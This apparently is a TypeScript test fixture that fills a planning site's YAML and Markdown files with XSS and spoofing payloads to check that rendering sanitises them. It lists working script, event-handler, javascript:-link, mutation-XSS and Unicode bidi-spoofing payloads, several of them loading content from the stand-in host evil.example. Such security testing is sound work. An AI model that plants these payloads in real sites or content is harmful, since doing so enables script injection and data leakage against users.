/**
 * The hostile-content corpus: XSS and spoofing payloads, and a walker that places them in
 * every text field and Markdown body of a real plan while keeping the plan valid (ids,
 * dates, initials and other constrained fields keep their values; URL fields get URL
 * payloads that still pass the schema).
 */
import { readdir, readFile, writeFile, mkdir, cp } from 'node:fs/promises';
import path from 'node:path';
import { parse, stringify } from 'yaml';

/** Every payload tries to set window.__pwned, call alert() or reach evil.example. */
export const TEXT_PAYLOADS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '<script src="http://evil.example/x.js"></script>',
  '<img src=x onerror="window.__pwned=1">',
  '<img src="http://evil.example/pixel.png">',
  '<img srcset="http://evil.example/a.png 1x">',
  '<svg onload="window.__pwned=1"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">klick</text></a></svg>',
  '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '[klicka](javascript:alert(1))',
  '[klicka](JaVaScRiPt:alert(1))',
  '[klicka](java&#x09;script:alert(1))',
  '[klicka](&#106;avascript:alert(1))',
  '[klicka](  javascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '[fil](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[ref][farlig]\n\n[farlig]: javascript:alert(1)',
  '![bild](http://evil.example/x.png)',
  '![bild](javascript:alert(1))',
  '[![bild](http://evil.example/x.png)](javascript:alert(1))',
  '<a href="javascript:alert(1)">länk</a>',
  '<a href="http://evil.example/" ping="http://evil.example/ping">länk</a>',
  '<iframe src="http://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<style>@import "http://evil.example/x.css"; body{background:url(http://evil.example/bg.png)}</style>',
  '<div style="background:url(http://evil.example/bg.png)">stil</div>',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<form action="javascript:alert(1)"><button>skicka</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<x onclick="alert(1)" onmouseover="alert(1)">hovra</x>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '\'"><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</style></script><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor(\'alert(1)\')()}} ${alert(1)} #{alert(1)}',
  'javascript:alert(1)',
  '\u202Egpj.exe\u202C fil\u202Dtext\u202C \u2066isolat\u2069 \u2067rtl\u2069 \u2068först\u2069 \u200F\u200E\u061C',
  '\u202E<script>alert(1)</script>',
  'Zero\u200Bwidth\u200C\u200D\uFEFF',
  '```html\n<script>alert(1)</script>\n```',
  '<table><tr><td onmouseover="alert(1)">cell</td></tr></table>',
];

/** Payloads for fields that must stay http(s)/mailto URLs. */
export const URL_PAYLOADS: readonly string[] = [
  'https://example.se/"><script>alert(1)</script>',
  'https://example.se/\'onmouseover=\'alert(1)',
  'https://example.se/#"onfocus="alert(1)"autofocus="',
  'http://example.se/?q=<img/src/onerror=alert(1)>',
  'mailto:a@example.se?body=<script>alert(1)</script>',
  'https://example.se/\u202Egpj.exe',
  'https://javascript:alert(1)@example.se/',
  'HTTPS://example.se/&#x22;&#x3E;',
];

/** Fields whose values are constrained or referenced elsewhere; they keep their values. */
const KEEP = new Set(['id', 'type', 'category', 'initials', 'abbr', 'file', 'image', 'status', 'kind', 'date', 'month', 'season', 'from', 'to', 'strategicGoal', 'resultGoal', 'generated', 'email', '$schema', 'asOf', 'documentDate']);
const URL_FIELDS = new Set(['url', 'website']);

export interface Placement { count: number }

/** Payloads placed around each free text string by `poison`. */
const PAYLOADS_PER_FIELD = 4;

/**
 * Where a Markdown body gets its payloads (after the front matter, if any): before the
 * body, after it, as a list item and as a quote, one each; each variant shifts by as many.
 */
const MARKDOWN_PLACES: ((body: string, payload: string) => string)[] = [
  (body, payload) => `${payload} ${body}`,
  (body, payload) => `${body}\n\n${payload}`,
  (body, payload) => `${body}\n\n- ${payload}`,
  (body, payload) => `${body}\n\n> ${payload}\n`,
];

/**
 * Variants after which every text field and every Markdown file has carried every text
 * payload: each variant shifts a field's payloads by PAYLOADS_PER_FIELD and a file's by its
 * number of places.
 */
export const VARIANTS_FOR_EVERY_PAYLOAD = Math.ceil(TEXT_PAYLOADS.length / Math.min(PAYLOADS_PER_FIELD, MARKDOWN_PLACES.length));

/**
 * Returns a copy of `data` with payloads around every free text string: the string at
 * position i (in document order) gets PAYLOADS_PER_FIELD payloads from (i + 4·variant) on,
 * half before it and half after, so that over ceil(P/4) variants every field has carried
 * every payload (two per field took twice the plans and pages).
 */
export function poison(data: unknown, variant: number, placed: Placement): unknown {
  let i = 0;
  const walk = (value: unknown, key: string | undefined, parentType: string | undefined): unknown => {
    if (typeof value === 'string') {
      if (key && KEEP.has(key)) return value;
      if (key === 'responsible' && parentType === 'assignmentTable') return value; // initials
      if (key && URL_FIELDS.has(key)) {
        placed.count++;
        return URL_PAYLOADS[(i++ + variant) % URL_PAYLOADS.length];
      }
      const n = TEXT_PAYLOADS.length;
      const k = i++ + PAYLOADS_PER_FIELD * variant;
      const payloads = Array.from({ length: PAYLOADS_PER_FIELD }, (_, j) => TEXT_PAYLOADS[(k + j) % n]!);
      placed.count += PAYLOADS_PER_FIELD;
      const half = PAYLOADS_PER_FIELD / 2;
      return [...payloads.slice(0, half), value, ...payloads.slice(half)].join(' ');
    }
    if (Array.isArray(value)) return value.map((item) => walk(item, key, parentType));
    if (value && typeof value === 'object') {
      const obj = value as Record<string, unknown>;
      const type = typeof obj.type === 'string' ? obj.type : parentType;
      return Object.fromEntries(Object.entries(obj).map(([k, v]) => [k, walk(v, k, type)]));
    }
    return value;
  };
  return walk(data, undefined, undefined);
}

/** Writes a poisoned copy of the plan folder `source` as `target`; Markdown files get payloads too. */
export async function writePoisonedPlan(source: string, target: string, variant: number, placed: Placement): Promise<void> {
  await mkdir(target, { recursive: true });
  await cp(source, target, { recursive: true });
  const data = parse(await readFile(path.join(source, 'plan.yaml'), 'utf8'));
  await writeFile(path.join(target, 'plan.yaml'), stringify(poison(data, variant, placed), { aliasDuplicateObjects: false, lineWidth: 0 }));
  for (const name of await readdir(source, { recursive: true })) {
    if (!name.endsWith('.md')) continue;
    const file = path.join(target, name);
    const text = await readFile(file, 'utf8');
    const n = TEXT_PAYLOADS.length;
    const match = /^---\r?\n[\s\S]*?\r?\n---\r?\n/.exec(text);
    const head = match ? match[0] : '';
    const body = text.slice(head.length);
    const picks = MARKDOWN_PLACES.map((_, j) => TEXT_PAYLOADS[(variant * MARKDOWN_PLACES.length + j + name.length) % n]!);
    placed.count += picks.length;
    await writeFile(file, head + MARKDOWN_PLACES.reduce((text, place, j) => place(text, picks[j]!), body));
  }
}
